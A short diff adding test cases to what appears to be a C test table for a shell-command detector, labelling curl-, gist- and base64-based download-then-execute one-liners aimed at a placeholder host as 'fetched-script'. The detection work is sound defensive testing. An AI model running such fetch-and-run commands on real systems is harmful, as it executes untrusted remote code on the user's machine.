@@ -428,6 +428,9 @@ static void downloads(void)
 {
 	static const struct example rows[] = {
 		ROW("curl -o i https://x.example/i; mv i j; sh j", "fetched-script"),
+		ROW("x=$(curl -s https://x.example/i); echo \"$x\" > i; sh i", "fetched-script"),
+		ROW("printf %s \"$(curl https://x.example/i)\" > i && sh i", "fetched-script"),
+		ROW("gh gist view 12 -r > i; sh i", "fetched-script"),
 		ROW("curl https://x.example/i > i; sh < i; cat i | sh; head -1 i | sh",
 			"fetched-script; fetched-script; fetched-script"),
 		ROW("curl -o i https://x.example/i; base64 -d i > j; bash j", "fetched-script"),
